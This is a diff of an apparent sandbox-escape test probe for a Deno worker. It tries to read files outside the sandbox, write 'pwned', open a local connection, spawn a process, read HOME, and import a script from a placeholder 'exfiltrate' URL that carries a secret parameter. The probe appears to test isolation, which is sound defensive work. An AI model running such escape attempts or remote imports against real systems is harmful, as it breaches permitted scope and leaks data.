@@ -18,7 +18,7 @@ self.onmessage = async (event: MessageEvent<WorkerRequest>) => {
   const { id, task } = event.data;
   const [mode, ...args] = task.path.split("|");
   if (mode === "throw") throw new Error("probe exploded");
-  if (mode === "hang") for (;;) { /* spin until terminated */ }
+  if (mode === "hang") { for (;;) { /* spin until terminated */ } }
   if (mode === "ok") {
     self.postMessage({ id, outcome: { format: "probe", findings: [] } });
     return;
@@ -28,9 +28,12 @@ self.onmessage = async (event: MessageEvent<WorkerRequest>) => {
     readTarget: await attempt(() => Deno.readFile(task.realPath)),
     readOutside: await attempt(() => Deno.readFile(outside)),
     write: await attempt(() => Deno.writeTextFile(writeTarget, "pwned")),
-    connect: await attempt(async () => (await Deno.connect({ hostname: "127.0.0.1", port: Number(port) })).close()),
+    connect: await attempt(async () =>
+      (await Deno.connect({ hostname: "127.0.0.1", port: Number(port) })).close()
+    ),
     spawn: await attempt(() => new Deno.Command("true").output()),
     env: await attempt(() => Promise.resolve(Deno.env.get("HOME"))),
+    // deno-lint-ignore no-import-prefix
     remoteImport: await attempt(() => import("https://modelaudit.invalid/exfiltrate.js?secret=1")),
   };
   self.postMessage({ id, outcome: { format: "probe", findings: [], error: JSON.stringify(results) } });
